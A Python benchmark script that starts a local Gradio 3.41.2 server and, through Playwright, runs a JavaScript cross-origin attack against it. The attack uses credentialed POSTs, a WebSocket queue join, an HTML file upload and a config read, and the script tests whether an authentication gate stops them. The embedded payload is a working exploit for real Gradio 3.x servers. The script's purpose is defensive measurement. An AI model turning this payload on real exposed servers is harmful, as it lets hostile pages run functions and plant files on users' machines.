"""Attack the real Gradio 3.41.2, which AUTOMATIC1111 uses, from pages of other origins, with and without the gate.

python scripts/attack_gradio3.py PYTHON [--write]

PYTHON is that of an environment with gradio==3.41.2 and its old companions (gradio_client 0.5.0, fastapi 0.94.0,
starlette 0.26.1, httpx 0.24.1, pydantic 1, huggingface_hub < 0.26, numpy 1, pillow < 11, matplotlib < 3.10). Chromium,
Playwright and openssl are needed too. `--write` keeps the table in benchmarks/results/cross_origin.md.
"""

import argparse
import datetime
import platform
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT), str(ROOT / "tests")]

SERVER = """
import sys
import gradio
ran = open(sys.argv[1], "a", buffering=1)
def act(text):
    ran.write(text + "\\n")
    return "secret " + text
with gradio.Blocks(title="behind") as page:
    box, out = gradio.Textbox(label="in"), gradio.Textbox(label="out")
    gradio.Button("Act").click(act, box, out)
page.queue().launch(server_name="127.0.0.1", server_port=int(sys.argv[2]), quiet=True)
"""

# Each way ends with what the page got to see. A body without a type is taken for JSON, and asks no leave first.
ATTACK = """
async ([base, mark]) => {
  const call = {fn_index: 0, session_hash: mark};
  const within = (promise) => Promise.race([
    promise.catch(() => "failed"), new Promise(done => setTimeout(() => done("no answer"), 8000))]);
  const send = (path, body, mode) => fetch(base + path, {method: "POST", mode, credentials: "include", body})
    .then(async answer => answer.text());
  const body = (way) => new Blob([JSON.stringify({...call, data: [`${mark}-${way}`]})]);
  const file = new FormData();
  file.append("files", new File(["<script>1</script>"], `${mark}.html`));
  const socket = () => new Promise(done => {
    const one = new WebSocket(base.replace("http", "ws") + "/queue/join");
    one.onmessage = ({data}) => {
      const message = JSON.parse(data);
      if (message.msg == "send_hash") one.send(JSON.stringify(call));
      if (message.msg == "send_data") one.send(JSON.stringify({...call, data: [`${mark}-socket`]}));
      if (message.msg == "process_completed") done(JSON.stringify(message.output.data));
    };
    one.onerror = one.onclose = () => done("refused");
  });
  return {
    post: await within(send("/run/predict", body("post"), "no-cors")),
    "post, read": await within(send("/run/predict", body("read"), "cors")),
    socket: await within(socket()),
    upload: await within(send("/upload", file, "no-cors")),
    "page, read": await within(fetch(base + "/config", {credentials: "include"}).then(answer => answer.text())),
  };
}
"""


def run(python: str, folder: Path) -> list[list[str]]:
    """Attack from every origin; gives rows of (page of, gate, functions that ran, files uploaded, what was read)."""
    from browser.origins import ATTACKERS, Record, open_world
    from tunnel_doubles import free_port

    from fastsd_helpers.tunnels.closed import A1111_CLOSED
    from fastsd_helpers.tunnels.gate.login import Login
    from fastsd_helpers.tunnels.gate.server import open_gate

    ran, port, login = folder / "ran", free_port(), Login("me", "a long password of 24 signs")
    uploads = folder / "uploads"
    environment = {"PATH": "/usr/bin:/bin", "HOME": str(folder), "GRADIO_TEMP_DIR": str(uploads)}
    environment["GRADIO_ANALYTICS_ENABLED"] = "False"
    command = [python, "-c", SERVER, str(ran), str(port)]
    rows = []
    with subprocess.Popen(command, cwd=folder, env=environment, stdout=subprocess.DEVNULL) as server:
        try:
            _wait_for(port)
            with open_gate(port, login, closed=A1111_CLOSED) as gate:
                gate.set_public_url("https://gated.gradio.live")
                with open_world(folder, {"gated": gate.port, "open": port}, Record()) as world:
                    world.log_in("gated", login)
                    rows += _attack(world, ["same origin", *ATTACKERS], ran, uploads)
                    rows.append(["the page itself, used by hand", "yes", *_use(world, ran)])
        finally:
            server.terminate()
    return rows


def _attack(world: Any, attackers: list[str], ran: Path, uploads: Path) -> list[list[str]]:
    rows = []
    for number, attacker in enumerate(attackers):
        for target in ("open", "gated"):
            mark = f"m{number}{target}"
            host = target if attacker in ("same origin", "other port", "plain http") else "gated"
            seen = world.attacker(attacker, host).evaluate(ATTACK, [world.link(target), mark])
            time.sleep(0.5)
            acted = [line.rpartition("-")[2] for line in ran.read_text().splitlines() if line.startswith(f"{mark}-")]
            files = len(list(uploads.rglob(f"{mark}.html")))
            read = [way for way, text in seen.items() if "secret" in text or '"version"' in text]
            gated = "yes" if target == "gated" else "no"
            rows.append([attacker, gated, ", ".join(acted) or "none", str(files), ", ".join(read) or "nothing"])
    return rows


def _use(world: Any, ran: Path) -> list[str]:
    page = world.page
    page.goto(f"{world.link('gated')}/")
    page.get_by_label("in", exact=True).fill("by-hand")
    page.get_by_role("button", name="Act").click()
    page.wait_for_function("[...document.querySelectorAll('textarea')].some(one => one.value == 'secret by-hand')")
    return ["by-hand" if "by-hand" in ran.read_text() else "none", "0", "the answer"]


def _wait_for(port: int) -> None:
    import socket

    end = time.monotonic() + 120
    while time.monotonic() < end:
        with socket.socket() as one:
            if one.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.3)
    raise SystemExit("Gradio did not start.")


def main() -> int:
    """Print the table, and keep it when asked to."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("python")
    parser.add_argument("--write", action="store_true")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as name:
        (Path(name) / "ran").touch()
        rows = run(options.python, Path(name))
    table = "\n".join(f"| {' | '.join(row)} |" for row in rows)
    text = (
        "# Pages of other origins against the real Gradio 3.41.2\n\n"
        f"{datetime.date.today()}, Chromium on {platform.machine()}. Made by `scripts/attack_gradio3.py`. The visitor "
        "is logged in at the link. Functions: by a post whose answer is not read, by one whose answer is, by a socket."
        f"\n\n| page of | gate | functions that ran | files uploaded | what the page read |\n"
        f"| --- | --- | --- | --- | --- |\n{table}\n"
    )
    sys.stdout.write(text)
    if options.write:
        (ROOT / "benchmarks/results/cross_origin.md").write_text(text, encoding="utf-8")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
